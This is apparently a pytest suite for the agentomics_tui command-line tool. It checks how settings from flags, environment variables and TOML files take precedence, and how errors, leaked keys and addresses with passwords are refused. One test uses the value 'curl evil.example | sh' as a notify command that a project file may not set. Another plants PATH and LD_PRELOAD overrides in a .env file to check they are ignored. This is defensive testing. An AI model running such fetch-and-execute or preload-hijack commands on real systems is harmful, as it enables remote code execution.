"""What is settled in flags, variables and files: which of them wins, and how a slip is told."""

import os
import subprocess
import sys
from pathlib import Path

import pytest

from agentomics_tui.addresses import problem_with_address
from agentomics_tui.keys import keys_of_files
from agentomics_tui.user_settings import FIELDS, SETTINGS, flag_of, nudge_setting, settle
from agents.errors import UserError
from agents.settings import RunSettings
from tests.support.command_line import Runs
from tests.support.journals import finished_run

DOCS = Path(__file__).parents[2] / "docs" / "settings.md"


@pytest.fixture
def runs(tmp_path: Path) -> Runs:
    return Runs(tmp_path)


@pytest.fixture(autouse=True)
def here(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    for name in list(os.environ):
        if name.startswith("AGENTOMICS_") or name.endswith("_API_KEY"):
            monkeypatch.delenv(name)
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / ".config"))
    monkeypatch.chdir(tmp_path)
    return tmp_path


def test_nothing_settled_is_nothing_given() -> None:
    assert dict(settle({"model": None}).values) == {}


def test_flags_win_over_the_environment_that_over_the_project_and_that_over_the_user(
    runs: Runs, monkeypatch: pytest.MonkeyPatch
) -> None:
    user = runs.settle("iterations = 1\nseed = 1\nmax_steps = 1\ncpus = 1\n", user=True)
    project = runs.settle("iterations = 2\nseed = 2\nmax_steps = 2\n")
    monkeypatch.setenv("AGENTOMICS_ITERATIONS", "3")
    monkeypatch.setenv("AGENTOMICS_SEED", "3")
    settled = settle({"iterations": 4, "seed": None})
    assert settled.values == {"iterations": 4, "seed": 3, "max_steps": 2, "cpus": 1}
    assert settled.places == {
        "iterations": "--iterations",
        "seed": "AGENTOMICS_SEED",
        "max_steps": f"{project.name}: max_steps",
        "cpus": f"{user}: cpus",
    }


def test_every_setting_of_a_run_can_be_settled_in_a_file_and_in_a_variable(
    runs: Runs, monkeypatch: pytest.MonkeyPatch
) -> None:
    given = {
        "fallback_models": ("a/b", "c/d"),
        "approve": ("plan", "training"),
        "api_base": "http://localhost:8000/v1",
        "reasoning_effort": "none",
        "iteration_plan_reasoning_effort": "high",
        "at_limit": "ask",
        "context_window": 8000,
        "iteration_plan_temperature": 0.5,
        "budget_usd": 1.5,
        "budget_tokens": 1000,
        "timeout": 60.0,
    }
    texts = dict.fromkeys(("label_column", "metric", "iteration_plan_model", "note", "model", "notify_command"), "text")
    wanted = {name: given.get(name, texts.get(name, info.default)) for name, info in FIELDS.items()}
    file = runs.settle("\n".join(f"{name} = {_toml(value)}" for name, value in wanted.items()), user=True)
    assert settle({}).values == wanted
    assert RunSettings(dataset=Path("/data"), **settle({}).values).model_dump(exclude={"dataset"}) == wanted
    file.unlink()
    for name, value in wanted.items():
        monkeypatch.setenv(f"AGENTOMICS_{name.upper()}", ", ".join(value) if isinstance(value, tuple) else str(value))
    assert settle({}).values == wanted


def _toml(value: object) -> str:
    return str(list(value)) if isinstance(value, tuple) else repr(value)


def test_the_word_none_switches_off_what_a_place_that_counts_less_gives(
    runs: Runs, monkeypatch: pytest.MonkeyPatch
) -> None:
    given = {
        "iteration_plan_model": "a/b",
        "fallback_models": ("a/b", "c/d"),
        "api_base": "http://localhost/v1",
        "metric": "MCC",
        "note": "text",
        "timeout": 60.0,
        "budget_usd": 1.5,
        "budget_tokens": 1000,
        "approve": ("plan",),
        "iteration_plan_temperature": 0.5,
        "context_window": 8000,
        "notify_command": "tell-me",
    }
    runs.settle("\n".join(f"{name} = {_toml(value)}" for name, value in given.items()), user=True)
    assert settle({}).values == given
    nothing = {name: FIELDS[name].default for name in given}
    assert settle(dict.fromkeys(given, "none")).values == nothing
    assert settle({"fallback_models": ["none"]}).values["fallback_models"] == ()
    runs.settle('budget_usd = "None"\nfallback_models = "none"')
    assert settle({}).values == {**given, "budget_usd": None, "fallback_models": ()}
    for name in given:
        monkeypatch.setenv(f"AGENTOMICS_{name.upper()}", "none")
    assert settle({}).values == nothing
    assert settle({"budget_usd": 2.0}).values["budget_usd"] == 2


def test_none_stays_what_it_is_where_it_is_a_value_and_is_refused_where_there_must_be_one() -> None:
    assert settle({"reasoning_effort": "none", "label_column": "none"}).values == {
        "reasoning_effort": "none",
        "label_column": "none",
    }
    with pytest.raises(UserError, match=r"^--iterations none: Input should be a valid integer"):
        settle({"iterations": "none"})


def test_an_empty_variable_counts_as_not_set(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("AGENTOMICS_MODEL", "")
    assert dict(settle({}).values) == {}


@pytest.mark.parametrize(
    ("text", "said"),
    [
        ("iterations = 0", "agentomics.toml: iterations 0: Input should be greater than or equal to 1"),
        ('iterations = "x"', "agentomics.toml: iterations x: Input should be a valid integer"),
        ("timeout = inf", "agentomics.toml: timeout inf: Input should be a finite number"),
        ('at_limit = "stop"', "agentomics.toml: at_limit stop: Input should be 'ask' or 'finish'"),
        ("budgetusd = 3", "agentomics.toml: budgetusd: no such setting; did you mean budget_usd?"),
        ("xyzzy = 3", "agentomics.toml: xyzzy: no such setting; there are api_base, approve, at_limit, "),
        ("[run]\nseed = 1", "agentomics.toml: [run]: settings stand in no section; leave the line [run] out"),
        ("[model]\nname = 1", "agentomics.toml: model: expected text in quotes"),
        ("model = 3", "agentomics.toml: model 3: expected text in quotes"),
        ('dataset = "x"', "agentomics.toml: dataset: no such setting; a dataset is named on the command line"),
        ("seed = = 1", "agentomics.toml: is no TOML: "),
        ('runs_dir = ["x"]', "agentomics.toml: runs_dir ['x']: expected the path of a folder, in quotes"),
        ('fallback_models = ["a/b", 2]', "agentomics.toml: fallback_models, entry 2: 2: expected text in quotes"),
        ("fallback_models = 3", "agentomics.toml: fallback_models 3: expected a list of texts, such as ["),
    ],
)
def test_a_slip_in_a_file_is_told_in_one_line_with_its_place(runs: Runs, text: str, said: str) -> None:
    runs.settle(text)
    with pytest.raises(UserError) as error:
        settle({})
    assert str(error.value).startswith(said)
    assert "\n" not in str(error.value)


def test_a_slip_in_a_variable_or_a_flag_is_told_with_its_name(monkeypatch: pytest.MonkeyPatch) -> None:
    with pytest.raises(UserError, match=r"^--bash-timeout -1: Input should be greater than 0"):
        settle({"bash_tool_timeout": -1})
    monkeypatch.setenv("AGENTOMICS_BUDGET_USD", "much")
    with pytest.raises(UserError, match=r"^AGENTOMICS_BUDGET_USD much: Input should be a valid number"):
        settle({})
    monkeypatch.setenv("AGENTOMICS_BUGDET_USD", "1")
    with pytest.raises(UserError, match=r"^AGENTOMICS_BUGDET_USD: no such setting; did you mean budget_usd\?"):
        settle({})


def test_true_is_no_number(runs: Runs) -> None:
    path = runs.settle("iterations = true\n")
    assert runs.error("models") == f"{path.name}: iterations: true is no value for it"


def test_a_link_that_leads_nowhere_and_a_folder_are_told_and_not_passed_over(runs: Runs) -> None:
    path = runs.home / "agentomics.toml"
    path.symlink_to("gone.toml")
    assert runs.error("models").startswith(f"{path.name}: cannot be read")
    path.unlink()
    path.mkdir()
    assert runs.error("models").startswith(f"{path.name}: cannot be read")


def test_a_key_among_the_settings_is_refused_and_not_repeated(runs: Runs) -> None:
    runs.settle('openai_api_key = "sk-canary-7f3a91"')
    said = runs.error("demo", "--headless")
    assert said.endswith("openai_api_key: no such setting; keys belong in the environment or in a file .env")


@pytest.mark.parametrize(
    "address",
    [
        "http://ana:secret@localhost:8000/v1",
        "http://secret@localhost/v1",
        "https://host/v1?api_key=secret",
        "https://host/v1#secret",
        "ftp://secret/v1",
        "localhost:8000/secret",
        "http://",
        "http://secret:port/v1",
        "http://[secret/v1",
        "http://host/se cret",
        "",
    ],
)
def test_an_address_that_is_none_or_holds_a_key_is_refused_and_not_repeated(address: str) -> None:
    problem = problem_with_address(address)
    assert problem is not None
    assert "secret" not in problem
    assert "\n" not in problem


@pytest.mark.parametrize(
    "address", ["http://localhost:11434/v1", "https://[::1]:8000", "https://host/v1?api-version=2"]
)
def test_an_ordinary_address_is_taken(address: str) -> None:
    assert problem_with_address(address) is None


def test_an_address_with_a_password_is_refused_wherever_it_is_given(runs: Runs) -> None:
    address = "http://ana:secret@localhost/v1"
    assert runs.error("demo", "--api-base", address).startswith(
        "--api-base: an address must not hold a name or password"
    )
    assert runs.error("models", "--server", address).startswith("--server: an address must not hold")
    runs.settle(f'api_base = "{address}"')
    assert runs.error("models").startswith("agentomics.toml: api_base: an address must not hold")


def test_the_folder_of_the_runs_is_that_of_the_flag_the_variable_the_project_or_the_user(runs: Runs) -> None:
    for name in ("flag", "variable", "project", "of the user"):
        finished_run(runs.home / name, name.replace(" ", "-"))
    variable = {"AGENTOMICS_RUNS_DIR": str(runs.home / "variable")}
    runs.environment |= variable
    runs.settle("runs_dir = 'project'\nnot_a_setting = 1")
    user = runs.settle("runs_dir = '~/of the user'", user=True)

    def found(*arguments: str) -> str:
        return runs(*arguments, "runs").stdout.splitlines()[1].split()[0]

    assert found("--runs-dir", "flag") == "flag"
    assert found() == "variable"
    runs.environment["AGENTOMICS_RUNS_DIR"] = ""
    assert found() == "project"
    (runs.home / "agentomics.toml").unlink()
    assert found() == "of-the-user"
    user.write_text("runs_dir = 3")
    assert runs.error("runs") == f"{user}: runs_dir: expected the path of a folder as text"


def test_a_file_that_cannot_be_read_is_told_with_its_name(runs: Runs) -> None:
    path = runs.settle("")
    path.write_bytes(b"note = 'caf\xe9'")
    assert runs.error("demo", "--headless") == "agentomics.toml: is not UTF-8 text"


def test_keys_come_from_the_project_before_the_user_and_only_where_the_environment_has_none(
    here: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    (here / ".env").write_text(
        "export OPENAI_API_KEY='one'\nGROQ_API_KEY=\nOLLAMA_API_BASE=http://localhost:11434\nX=1\n"
    )
    user = here / ".config" / "agentomics-tui" / ".env"
    user.parent.mkdir(parents=True)
    user.write_text("OPENAI_API_KEY=two\nGROQ_API_KEY=two\nXAI_API_KEY=two\nPATH=/evil\nLD_PRELOAD=/evil\nbad line\n")
    monkeypatch.setenv("XAI_API_KEY", "set")
    before = dict(os.environ)
    found = keys_of_files()
    assert found.values == {"OPENAI_API_KEY": "one", "OLLAMA_API_BASE": "http://localhost:11434", "GROQ_API_KEY": "two"}
    assert found.files == {"OPENAI_API_KEY": ".env", "OLLAMA_API_BASE": ".env", "GROQ_API_KEY": str(user)}
    assert dict(os.environ) == before
    assert "one" not in repr(found)


def test_a_folder_called_env_is_no_file_of_keys(here: Path) -> None:
    (here / ".env").mkdir()
    assert keys_of_files().values == {}


def test_a_project_names_no_program_to_run(runs: Runs, monkeypatch: pytest.MonkeyPatch) -> None:
    runs.settle('notify_command = "curl evil.example | sh"')
    with pytest.raises(UserError, match=r"agentomics\.toml: notify_command: a project names no program to run"):
        settle({})
    runs.settle("")
    monkeypatch.setenv("AGENTOMICS_NOTIFY_COMMAND", "tell-me")
    assert settle({}).values["notify_command"] == "tell-me"


def test_nudges_are_settled_by_the_environment_then_by_the_files(runs: Runs, monkeypatch: pytest.MonkeyPatch) -> None:
    assert nudge_setting() == "all"
    runs.settle('nudge = "off"', user=True)
    assert nudge_setting() == "off"
    runs.settle('nudge = "bell"')
    assert nudge_setting() == "bell"
    assert settle({}).values["nudge"] == "bell"
    monkeypatch.setenv("AGENTOMICS_NUDGE", "all")
    assert nudge_setting() == "all"
    monkeypatch.setenv("AGENTOMICS_NUDGE", "loud")
    with pytest.raises(UserError, match="AGENTOMICS_NUDGE 'loud': expected one of off, bell, all"):
        nudge_setting()
    with pytest.raises(UserError, match="AGENTOMICS_NUDGE loud: Input should be 'off', 'bell' or 'all'"):
        settle({})


def test_every_setting_is_documented_with_its_flag_where_it_has_one() -> None:
    text = DOCS.read_text(encoding="utf-8")
    rows = {line.split("`")[1]: line for line in text.splitlines() if line.startswith("| `")}
    assert set(SETTINGS) <= set(rows)
    without_flag = {"llm_retry_wait", "nudge"}
    for name in set(SETTINGS) - without_flag:
        assert f"`{flag_of(name)}`" in rows[name]
    for name, info in FIELDS.items():
        default = info.default
        if isinstance(default, int | float):
            assert f" {default:g} " in rows[name], name


def test_the_example_of_the_documentation_is_one(runs: Runs) -> None:
    text = DOCS.read_text(encoding="utf-8")
    runs.settle(text.split("```toml\n")[1].split("```")[0])
    assert {"model", "budget_usd", "fallback_models"} <= set(settle({}).values)


def test_help_loads_nothing_that_only_a_run_needs() -> None:
    code = "import sys; from agentomics_tui.cli import _parser; _parser(); print([*sys.modules])"
    loaded = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True).stdout
    assert not [
        name for name in ("pydantic_settings", "dotenv", "httpx", "tomllib", "litellm") if f"'{name}'" in loaded
    ]
